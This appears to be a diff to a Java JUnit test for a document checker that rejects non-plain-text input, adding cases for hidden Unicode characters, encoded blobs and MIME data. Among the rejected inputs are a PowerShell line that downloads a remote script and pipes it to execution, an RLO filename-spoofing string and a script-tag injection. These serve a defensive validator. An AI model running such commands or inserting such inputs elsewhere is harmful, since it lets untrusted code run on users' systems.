@@ -12,8 +12,10 @@ import static org.lanzarote.monitoring.platform.problem.ProblemType.DOCUMENT_UNR
 
 import java.nio.file.Path;
 import java.util.Arrays;
+import java.util.Base64;
 import java.util.List;
 import java.util.Map;
+import java.util.Random;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
@@ -86,6 +88,12 @@ class DocumentCheckTest {
                 "Text <SCRIPT>alert(1)</SCRIPT>",
                 "See data:image/png;base64,iVBORw0KGgo=",
                 "From: a\nContent-Transfer-Encoding: base64",
+                "Subject: a law\nMIME-Version: 1.0\nContent-Type: image/jpeg\n\n/9j/4AAQ",
+                "Invoke-WebRequest https://www.example.org/a.ps1 | iex",
+                "A law \u202Efdp.wal",
+                "A la\u200Bw",
+                "A law.\uFEFF",
+                "\uE000",
                 "Text with a \u0007 bell",
                 "P3\n2 2\n255\n0 0 0 9 9 9 1 1 1 2 2 2",
                 "P1 # bitmap\n2 2\n0 1 1 0",
@@ -136,6 +144,22 @@ class DocumentCheckTest {
     }
 
     @Test
+    void fileWrittenInSignsOfAKeyboardIsNoPlainText() {
+        var random = new Random(7);
+        var signs = new StringBuilder("A law.\n<~");
+        for (int i = 0; i < 300; i++) {
+            signs.append((char) ('!' + random.nextInt(85))).append(i % 75 == 74 ? "\n" : "");
+        }
+        looking.refuses(signs.append("~>").toString().getBytes(UTF_8), DOCUMENT_UNKNOWN, "a file written in letters");
+        var file = new byte[400];
+        random.nextBytes(file);
+        var letters = "A law.\n" + Base64.getMimeEncoder().encodeToString(file);
+        looking.refuses(letters.getBytes(UTF_8), DOCUMENT_UNKNOWN, "a file written in letters");
+        var digests = "Annex 1: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\n".repeat(4);
+        assertThat(looking.at(digests.getBytes(UTF_8)).type()).isEqualTo(DocumentType.TEXT);
+    }
+
+    @Test
     void pictureInSignsOrNumbersIsNoPlainText() {
         for (var picture : List.of(
                 "255 216 1 74 ".repeat(2_000),
@@ -160,6 +184,8 @@ class DocumentCheckTest {
     @ParameterizedTest
     @ValueSource(
             strings = {
+                "Office | https://www.example.org/office | office@example.org\nIn force | https://www.example.org/law",
+                "\u0645\u0627\u062F\u0629 (3)\u200F.",
                 "# Law\n\n- Article 1 (new)\n- +32 2 555 01 02\n=====\n| a | b |\n|---|---|\n",
                 "Year;Cases;Share\n2020;1 204;-3.5 %\n2021;=;+4",
                 "Parties may require (\"the States\") that Art.III(2) is kept; import duties, e.g.(a)",
